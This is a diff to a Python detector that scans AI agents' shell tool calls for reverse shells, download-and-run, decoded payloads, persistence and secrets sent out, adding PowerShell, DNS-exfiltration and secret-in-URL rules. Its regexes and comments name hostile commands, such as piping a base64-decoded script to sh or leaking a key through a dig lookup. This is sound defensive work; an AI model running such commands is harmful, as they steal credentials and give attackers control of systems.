@@ -33,7 +33,9 @@ from collector.toolcalls.model import (
     ENV_FILE_READ,
     PERSISTENCE,
     REVERSE_SHELL,
+    RUNS_FILE,
     SECRET_READS,
+    SECRET_SENT,
     WRITTEN,
     Analysis,
     HostRef,
@@ -45,7 +47,7 @@ MAX_DEPTH = 4
 MAX_TEXT = 64_000
 
 DOWNLOADERS = hostmod.DOWNLOADERS
-SHELLS = {"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "csh", "tcsh", "busybox", "mksh", "yash"}
+SHELLS = {"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "csh", "tcsh", "mksh", "yash"}
 PYTHONS = re.compile(r"^(?:python[\d.]*|pypy[\d.]*|ipython[\d.]*)$")
 OTHER_INTERPRETERS = {"perl", "ruby", "node", "nodejs", "php", "pwsh", "powershell", "lua", "osascript", "deno", "bun",
                       "iex", "invoke-expression", "tclsh", "r", "rscript", "julia", "groovy", "jshell"}
@@ -54,9 +56,8 @@ READERS = {"cat", "less", "more", "head", "tail", "base64", "base32", "xxd", "od
            "awk", "gawk", "sed", "jq", "yq", "nl", "tac", "bat", "batcat", "sort", "uniq", "cut", "tr", "dd", "curl",
            "wget", "nc", "ncat", "socat", "diff", "sqlite3", "mv", "install", "type", "view", "xclip", "pbcopy",
            "python", "python3", "node", "perl", "ruby", "php", "http", "xh", "gh", "aws", "gsutil", "rclone"}
-DECODERS = {"base64", "base32", "basenc", "xxd", "openssl", "gunzip", "zcat", "uudecode", "rev", "gzip", "bzcat",
-            "bunzip2", "xzcat", "unxz", "zstdcat", "unzstd", "brotli", "python", "python3", "perl", "tr"}
 NULL_TARGETS = re.compile(r"^/dev/(?:null|stdout|stderr|tty|fd/\d+)$")
+_SECRET_VAR = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
 SECRET_NAME = re.compile(r"(?:KEY|TOKEN|SECRET|PASSW|CRED|AUTH|PRIVATE|SESSION|COOKIE|MNEMONIC|SEED)", re.I)
 
 _SUBST = re.compile(r"\$\(((?:[^()]|\((?:[^()]|\([^()]*\))*\))*)\)|`([^`]*)`|<\(((?:[^()]|\([^()]*\))*)\)")
@@ -70,6 +71,10 @@ _REVERSE_SHELL = [
     re.compile(r"\btelnet\b[^|\n]*\|\s*/bin/(?:ba)?sh"),
     re.compile(r"\bopenssl\s+s_client\b[^\n]*\|\s*/bin/(?:ba)?sh"),
 ]
+# PowerShell: `iex (iwr URL)`, `Invoke-Expression (New-Object Net.WebClient).DownloadString(URL)`
+_PWSH_DOWNLOAD_EXEC = re.compile(
+    r"\b(?:iex|invoke-expression)\b[^;|\n]*\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|"
+    r"net\.webclient|curl|wget)\b", re.I)
 _ENV_PROC = re.compile(r"/proc/(?:self|\d+|\*|\$\$|\$\w+)/environ")
 # Text without any of these cannot carry an indicator, an install or a host: the parser is skipped.
 _INTERESTING = re.compile(
@@ -77,7 +82,7 @@ _INTERESTING = re.compile(
     r"pip|npm|pnpm|yarn|\bbunx?\b|npx|cargo|\bgo\s|\buvx?\s|poetry|pdm|rye|\beval\b|\bsource\b|\bexec\b|"
     r"python|pypy|perl|ruby|node|php|pwsh|powershell|\b(?:ba|z|da|k|c|tc|mk)?sh\b|\benv\b|printenv|export|\bset\b|"
     r"environ|declare|@|ssh|scp|rsync|gunzip|zcat|gzip|uudecode|\brev\b|\biex\b|invoke-|lwp|\bhttps?\b|\bxh\b|"
-    r"\$\(|`|<\(|\bdig\b|nslookup|\bhost\b|ping|\.\s|\bdocker\b|podman|\bgit\b|crontab|\bat\b|systemd|authorized_keys|"
+    r"\$\(|`|<\(|\bdig\b|nslookup|\bhost\b|ping|\.\s|\bdocker\b|podman|\bgit\b|cron|\bat\b|systemd|authorized_keys|autostart|init\.d|"
     r"rc\b|profile|ld\.so|LaunchAgents|sudoers|\.env|\$\w*(?:KEY|TOKEN|SECRET)|GOPROXY|INDEX_URL|registry|<<|"
     r"\bgh\b|\baws\b|gsutil|rclone|\bs3\b|\$\{?\w",
     re.I,
@@ -108,6 +113,9 @@ def analyze_command(cmd: str, depth: int = 0, context: str = COMMAND) -> tuple[A
         if m:
             out.indicators.append(Indicator(REVERSE_SHELL, _snip(runs.exec_text, m), _first_host(runs.exec_text), context))
             break
+    m = _PWSH_DOWNLOAD_EXEC.search(runs.exec_text)
+    if m:
+        out.indicators.append(Indicator(DOWNLOAD_EXEC, _snip(runs.exec_text, m), _first_host(runs.exec_text), context))
     m = _ENV_PROC.search(runs.exec_text)
     if m:
         out.indicators.append(Indicator(ENV_DUMP, _snip(runs.exec_text, m), None, context))
@@ -123,8 +131,19 @@ def analyze_write(targets: list[str], text: str | None, depth: int = 0, context:
     analysed with context 'written'; the write itself persists a foothold when the target is a cron,
     systemd, authorized_keys or ld.so.preload path, or a shell rc file given a payload."""
     out = Analysis()
-    inner, ups = analyze_command(text, depth, WRITTEN) if text else (Analysis(), ())
+    lang = _language(targets[0] if targets else "", text or "")
+    if not text:
+        inner, ups = Analysis(), ()
+    elif lang == "sh":
+        inner, ups = analyze_command(text, depth, WRITTEN)
+    else:  # a Python/JS/Perl/Ruby/PHP file: its code, as it would run
+        inner, ups = code_analysis.analyze_code(lang, text, WRITTEN, lambda t: analyze_command(t, depth + 1, WRITTEN))
+    inner = Analysis(list(inner.indicators), list(inner.installs), list(inner.hosts))
+    exfiltrate(inner, list(ups), WRITTEN)  # a script that reads a secret and sends it, once run
     out.add(inner)
+    if targets:  # where it was written: a later call that runs the file makes it run (ac1-written-then-run)
+        out.indicators = [Indicator(i.kind, i.detail, i.host, i.context, i.url, targets[0]) if i.context == WRITTEN
+                          and i.path is None else i for i in out.indicators]
     for t in targets:
         if paths.persists(t):
             out.indicators.append(Indicator(PERSISTENCE, f"writes {t}: {(text or '')[:200]}"[:300],
@@ -133,6 +152,23 @@ def analyze_write(targets: list[str], text: str | None, depth: int = 0, context:
                 i.kind in (DOWNLOAD_EXEC, BASE64_EXEC, REVERSE_SHELL) for i in inner.indicators)):
             out.indicators.append(Indicator(PERSISTENCE, f"appends to {t}: {text[:200]}"[:300], _first_host(text), context))
     return out, ups
+
+
+_LANG_EXT = {".py": "python", ".js": "node", ".mjs": "node", ".cjs": "node", ".ts": "node", ".pl": "perl",
+             ".rb": "ruby", ".php": "php"}
+
+
+def _language(path: str, text: str) -> str:
+    """How a written file would run: by its shebang, else its extension; shell otherwise."""
+    first = text.split("\n", 1)[0]
+    if first.startswith("#!"):
+        for lang, marks in (("python", ("python",)), ("node", ("node", "deno", "bun")), ("perl", ("perl",)),
+                            ("ruby", ("ruby",)), ("php", ("php",))):
+            if any(m in first for m in marks):
+                return lang
+        return "sh"
+    ext = "." + path.rsplit(".", 1)[-1].lower() if "." in path.rsplit("/", 1)[-1] else ""
+    return _LANG_EXT.get(ext, "sh")
 
 
 def exfiltrate(out: Analysis, uploads: list[str] | tuple[str, ...], context: str = COMMAND) -> None:
@@ -155,6 +191,7 @@ class _Walker:
         self.uploads = uploads
         self.exec_parts: list[str] = []
         self.downloaded: dict[str, str | None] = {}  # file -> host it came from
+        self.decoded: set[str] = set()  # files a decoder wrote
         self.written: dict[str, tuple[Analysis, tuple[str, ...]]] = {}  # file -> analysis of what was written
 
     @property
@@ -193,7 +230,8 @@ class _Walker:
                 self._env_var_read(c)
                 continue
             parts.append(c.raw)
-            self.command(c, body, stdin_piped=i > 0)
+            nxt = pipe[i + 1] if i + 1 < len(pipe) else None
+            self.command(c, body, stdin_piped=i > 0, filtered=nxt is not None and _filters_out_secrets(nxt))
             if _is_downloader(c):
                 downloaded = True
                 host = host or _first_host(" ".join(c.args))
@@ -212,6 +250,8 @@ class _Walker:
                     c.head == "declare" and c.args in (["-x"], ["-p"], ["-px"])):
                 env_dump_at = i
             upstream = None
+        if decoded and not downloaded and pipe:
+            self.decoded.update(self._targets(pipe[-1]))  # `echo … | base64 -d > /tmp/x.sh`, then `sh /tmp/x.sh`
         if env_dump_at is not None:
             nxt = pipe[env_dump_at + 1] if env_dump_at + 1 < len(pipe) else None
             pattern = " ".join(a for a in nxt.args if not a.startswith("-")) if nxt is not None and nxt.head in (
@@ -221,11 +261,11 @@ class _Walker:
         self.exec_parts.append(" | ".join(parts))
 
     # -- one simple command ----------------------------------------------------------------------
-    def command(self, c: Simple, stdin_text: str | None, stdin_piped: bool) -> None:
+    def command(self, c: Simple, stdin_text: str | None, stdin_piped: bool, filtered: bool = False) -> None:
         out, ctx, text = self.out, self.context, c.text
         inst = installmod.installs(c.head, c.args, c.assignments, text)
         out.installs += inst.installs
-        out.indicators += [Indicator(i.kind, i.detail, i.host, ctx) for i in inst.indicators]
+        out.indicators += [Indicator(i.kind, i.detail, i.host, ctx, i.url) for i in inst.indicators]
         out.hosts += [_in_context(h, ctx) for h in inst.hosts]
         if not inst.hosts:
             out.hosts += [_in_context(h, ctx) for h in hostmod.command_hosts(c.head, c.args)]
@@ -237,7 +277,7 @@ class _Walker:
         self._inline(c)
         if stdin_text is not None and not stdin_piped and _runs_stdin(c):
             self._run_text(c, stdin_text)  # `bash <<EOF`, `python3 - <<'PY'`, `sh <<< "..."`
-        if c.head in READERS:
+        if c.head in READERS and not filtered and not _filters_out_secrets(c):
             self._reads_secret(c)
         self._env_var_read(c)
         self._persistence(c, stdin_text)
@@ -288,6 +328,8 @@ class _Walker:
         if c.head in SHELLS or c.head in ("eval", "su", "pwsh", "powershell"):
             a, ups = analyze_command(code, self.depth + 1, self.context)
         elif PYTHONS.match(c.head) or c.head in OTHER_INTERPRETERS:
+            if c.head in ("perl", "ruby"):  # `perl -MLWP::Simple -e 'eval get(...)'`: modules are part of it
+                code = " ".join(c.args)
             a, ups = code_analysis.analyze_code(c.head, code, self.context, self._shell)
         else:
             return
@@ -314,7 +356,26 @@ class _Walker:
         return False
 
     def _env_var_read(self, c: Simple) -> None:
-        """`echo $OPENAI_API_KEY`, `printenv AWS_SECRET_ACCESS_KEY`: one secret variable printed."""
+        """`echo $OPENAI_API_KEY`, `printenv AWS_SECRET_ACCESS_KEY`: one secret variable printed; a
+        secret variable in a request's URL or body (`curl "https://x/?k=$OPENAI_API_KEY"`) is sent.
+        In a header (`-H "Authorization: Bearer $OPENAI_API_KEY"`) it is how APIs authenticate: not
+        counted (the host it goes to is the analyzer's to judge)."""
+        if c.head in DOWNLOADERS or c.head in ("nc", "ncat", "netcat", "socat", "telnet", "dig", "nslookup", "host"):
+            sent = []
+            skip = False
+            for a in c.args:
+                if skip:
+                    skip = False
+                    continue
+                if a in ("-H", "--header", "-u", "--user", "--oauth2-bearer"):
+                    skip = True
+                    continue
+                sent += [v for v in _SECRET_VAR.findall(a) if SECRET_NAME.search(v)]
+            if sent:
+                dest = hostmod.command_hosts(c.head, c.args)
+                self.out.indicators.append(Indicator(SECRET_SENT, f"${sent[0]} in {c.text}"[:300],
+                                                     dest[0].host if dest else None, self.context))
+            return
         if c.head in ("echo", "printf", "printenv"):
             names = [a for a in c.args if not a.startswith("-")]
             secret = [n for n in names if SECRET_NAME.search(n) and (c.head == "printenv" or "$" in n)]
@@ -378,8 +439,8 @@ class _Walker:
         if c.head in DOWNLOADERS:
             args = c.args
             for i, a in enumerate(args):
-                if a in ("-o", "--output", "-O", "--output-document") and i + 1 < len(args) and not args[i + 1].startswith("-") and (
-                        c.head != "curl" or a != "-O"):
+                short_o = re.fullmatch(r"-[a-zA-Z]*o", a) is not None or (c.head == "wget" and re.fullmatch(r"-[a-zA-Z]*O", a) is not None)
+                if (a in ("--output", "--output-document") or short_o) and i + 1 < len(args) and not args[i + 1].startswith("-"):
                     self.downloaded[args[i + 1]] = _first_host(" ".join(args))
                 elif a.startswith("--output-document=") or a.startswith("-O") and len(a) > 2 and c.head == "wget":
                     self.downloaded[a.split("=", 1)[-1] if "=" in a else a[2:]] = _first_host(" ".join(args))
@@ -394,13 +455,25 @@ class _Walker:
             return
         if c.head in ("chmod", "ls", "file", "sha256sum", "shasum", "md5sum", "tar", "unzip", "cat", "head", "less", "rm"):
             return
-        targets = [c.argv[0]] if c.argv else []
-        if (c.head in SHELLS or PYTHONS.match(c.head) or c.head in OTHER_INTERPRETERS) and c.args:
+        if c.head in SHELLS and any(re.fullmatch(r"-[a-zA-Z]*n[a-zA-Z]*", a) for a in c.args):
+            return  # `bash -n script.sh` checks syntax: nothing runs
+        word = next((a for a in c.argv if a.rsplit("/", 1)[-1].lower() == c.head), "")  # the command as written
+        targets = [word] if word else []
+        interp = c.head in SHELLS or PYTHONS.match(c.head) is not None or c.head in OTHER_INTERPRETERS or c.head in ("source", ".")
+        inline = any(a in ("-c", "-e", "-m", "-r", "--eval") or (c.head in SHELLS and re.fullmatch(r"-[a-zA-Z]*c[a-zA-Z]*", a))
+                     for a in c.args)
+        if interp and c.args and not inline:
             targets.append(next((a for a in c.args if not a.startswith("-")), ""))
+        for t in [x for x in targets[1:] if x] + [x for x in targets[:1] if "/" in x]:
+            self.out.indicators.append(Indicator(RUNS_FILE, t[:300], None, self.context))
         for t in targets:
             for f, host in self.downloaded.items():
                 if _same_file(t, f):
                     self.out.indicators.append(Indicator(DOWNLOAD_EXEC, c.text[:300], host, self.context))
+                    return
+            for f in self.decoded:
+                if _same_file(t, f):
+                    self.out.indicators.append(Indicator(BASE64_EXEC, c.text[:300], None, self.context))
                     return
             for f in list(self.written):
                 if _same_file(t, f):
@@ -412,7 +485,7 @@ class _Walker:
         inner, ups = self.written.pop(path)
         for i in inner.indicators:
             if i.context == WRITTEN:
-                self.out.indicators.append(Indicator(i.kind, i.detail, i.host, self.context))
+                self.out.indicators.append(Indicator(i.kind, i.detail, i.host, self.context, i.url))
         for h in inner.hosts:
             if h.intent == WRITTEN:
                 self.out.hosts.append(HostRef(h.host, h.port, h.url, "arg"))
@@ -428,6 +501,15 @@ class _Walker:
 
     def _targets(self, c: Simple) -> list[str]:
         return [t for t, _ in c.stdout if not NULL_TARGETS.match(t)]
+
+
+def _filters_out_secrets(c: Simple) -> bool:
+    """`grep current-context` (a pattern naming no secret) keeps only lines that hold none:
+    `cat ~/.kube/config | grep current-context` reads no credential out."""
+    if c.head not in ("grep", "egrep", "fgrep", "rg"):
+        return False
+    pattern = next((a for a in c.args if not a.startswith("-")), None)
+    return pattern is not None and not SECRET_NAME.search(pattern) and "." not in pattern.strip("^$")
 
 
 def _is_downloader(c: Simple) -> bool:
@@ -506,11 +588,15 @@ def _substitutions(cmd: str, depth: int, context: str, out: Analysis, uploads: l
         out.indicators += secret
         script = parse(inner)
         cmds = script.commands() if script is not None else []
+        before = cmd[: m.start()].rstrip(" \"'")
+        outer = parse(re.split(r"[;&|\n]", before)[-1].strip() + " x")
+        outer_head = outer.commands()[0].head if outer is not None and outer.commands() else ""
+        if outer_head in hostmod.DOWNLOADERS or outer_head in ("dig", "nslookup", "host", "ping", "drill", "nc", "ncat"):
+            uploads.append(_snip(cmd, m))  # `dig $(cat key | base64).x.example`: the output goes out in the request
         has_dl = any(_is_downloader(c) for c in cmds)
         has_dec = any(_is_decoder(c) for c in cmds)
         if not (has_dl or has_dec):
             continue
-        before = cmd[: m.start()].rstrip(" \"'")
         ctx = re.split(r"[;&|\n]", before)[-1].strip()
         runs = False
         if ctx:
